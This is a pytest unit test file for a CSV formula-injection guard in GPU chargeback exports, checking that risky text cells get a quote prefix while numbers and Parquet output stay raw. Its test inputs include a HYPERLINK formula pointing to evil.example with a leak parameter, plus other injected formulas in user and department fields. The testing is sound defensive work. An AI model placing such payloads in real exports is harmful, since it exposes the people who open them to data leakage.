"""The formula guard of the CSV exports: the rule itself, then the three files written from hostile frames."""

from __future__ import annotations

import csv
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import polars as pl
import pytest

from reports.csv_guard import FORMULA_START, formula_guard, guard_text_columns
from reports.flagged_jobs_csv import flagged_jobs_csv
from reports.focus_export import write_chargeback_files
from tests.support.chargeback_frames import build, capacity, rates, run, usage
from tests.unit.fct_job_flags_cases import flags, usage_row
from transforms.marts.fct_chargeback_focus import focus_corrections

HYPERLINK = '=HYPERLINK("http://evil.example/?leak=1","click")'


@pytest.mark.parametrize(
    ("raw", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        (" " + HYPERLINK, "' " + HYPERLINK),
        ("  @SUM(1)", "'  @SUM(1)"),
        ("\n=1", "'\n=1"),
        ("\u00a0-1", "'\u00a0-1"),  # no-break space is whitespace too
        (" \tx", "' \tx"),
        ("-2.5", "'-2.5"),  # text, even when it looks like a number
        ("alice", "alice"),
        ("a=b", "a=b"),
        ("x-1", "x-1"),
        ('{"cluster": "=c1"}', '{"cluster": "=c1"}'),
        ("'=already", "'=already"),
        ("  ", "  "),
        ("", ""),
        (None, None),
    ],
)
def test_guard_prefixes_exactly_what_a_spreadsheet_would_run(raw: str | None, written: str | None) -> None:
    frame = pl.DataFrame({"text": [raw]}, schema={"text": pl.String})
    assert frame.select(formula_guard(pl.col("text")))["text"].to_list() == [written]


def test_the_dangerous_starts_are_the_owasp_ones() -> None:
    assert FORMULA_START == ("=", "+", "-", "@", "\t", "\r")


def test_only_text_columns_are_guarded() -> None:
    frame = pl.DataFrame(
        {
            "user": ["-2+3", "bob"],
            "cost": [Decimal("-2.50"), Decimal("1.00")],
            "hours": [-2.5, 1.0],
            "n": [-2, 1],
            "kind": pl.Series(["=x", "y"], dtype=pl.Categorical),
            "day": [date(2026, 10, 1), None],
        },
        schema_overrides={"cost": pl.Decimal(12, 2)},
    )
    guarded = guard_text_columns(frame)
    assert guarded["user"].to_list() == ["'-2+3", "bob"] and guarded["kind"].to_list() == ["'=x", "y"]
    assert guarded.select("cost", "hours", "n", "day").equals(frame.select("cost", "hours", "n", "day"))
    assert guarded.schema["cost"] == pl.Decimal(12, 2) and guarded.schema["hours"] == pl.Float64


def _rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def _hostile_usage() -> pl.DataFrame:
    return usage(
        run("100", datetime(2026, 10, 2), 10, department=' =HYPERLINK("http://x")', account="@SUM(1)")
        | {"user_name": HYPERLINK},
        run("-2+3", datetime(2026, 10, 3), 4, partition="  @cmd", department="nlp") | {"user_name": "-2+3"},
    )


def test_chargeback_files_guard_text_and_keep_numbers_and_parquet_raw(tmp_path: Path) -> None:
    built = build(_hostile_usage(), rates(idle_capacity="none"), capacity(h100_gpus=1))
    paths = write_chargeback_files(built.focus, built.jobs, tmp_path, "2026-10")
    jobs = {row["job_id_raw"]: row for row in _rows(paths["jobs_csv"])}
    assert set(jobs) == {"100", "'-2+3"}
    first, second = jobs["100"], jobs["'-2+3"]
    assert (first["user_name"], first["account"], first["department"]) == (
        "'" + HYPERLINK,
        "'@SUM(1)",
        '\' =HYPERLINK("http://x")',
    )
    assert (second["job_id"], second["user_name"], second["partition_name"]) == ("'-2+3", "'-2+3", "'  @cmd")
    assert (first["gpu_hours"], first["cost"], first["start_time"]) == ("10.000000", "25.00", "2026-10-02T00:00:00Z")
    assert second["sku_price_id"] == "H100|  @cmd|normal|2026-10-01T00:00:00Z"  # starts with H: not a formula
    focus = {(row["SubAccountId"], row["x_ChargeKind"]): row for row in _rows(paths["focus_csv"])}
    hostile = focus[('\' =HYPERLINK("http://x")', "usage")]
    assert hostile["SubAccountName"] == '\' =HYPERLINK("http://x")' and hostile["BilledCost"] == "25.00"
    assert hostile["Tags"].startswith('{"cluster":"c1","department":" =HYPERLINK')  # JSON object: not a formula
    parquet = pl.read_parquet(paths["focus_parquet"])
    assert set(parquet["SubAccountId"]) == {' =HYPERLINK("http://x")', "nlp", "(unallocated)"}


def test_negative_decimals_stay_numbers_in_the_csv(tmp_path: Path) -> None:
    closed = build(_hostile_usage(), rates(), capacity(h100_gpus=1))
    remapped = _hostile_usage().with_columns(pl.lit("nlp").alias("department"))
    fix = focus_corrections(build(remapped, rates(), capacity(h100_gpus=1)).focus, closed.focus, date(2026, 11, 1))
    paths = write_chargeback_files(fix, closed.jobs.clear(), tmp_path, "2026-11")
    costs = {(row["SubAccountId"], row["x_ChargeKind"]): row["BilledCost"] for row in _rows(paths["focus_csv"])}
    assert costs[('\' =HYPERLINK("http://x")', "usage")] == "-25.00"
    assert costs[("nlp", "usage")] == "25.00"


def test_flagged_jobs_csv_guards_after_leading_whitespace() -> None:
    rows = [
        usage_row(
            "1",
            util=0.1,
            user_name="  @SUM(1)",
            account=' =HYPERLINK("http://x")',
            department="\t-1",
            partition_name="-2+3",
        )
    ]
    line = next(csv.DictReader(flagged_jobs_csv(flags(rows)).splitlines(keepends=True)))
    assert (line["user"], line["account"], line["department"], line["partition"]) == (
        "'  @SUM(1)",
        '\' =HYPERLINK("http://x")',
        "'\t-1",
        "'-2+3",
    )
    assert (line["gpus"], line["gpu_hours"], line["utilization"]) == ("1", "2", "0.1")
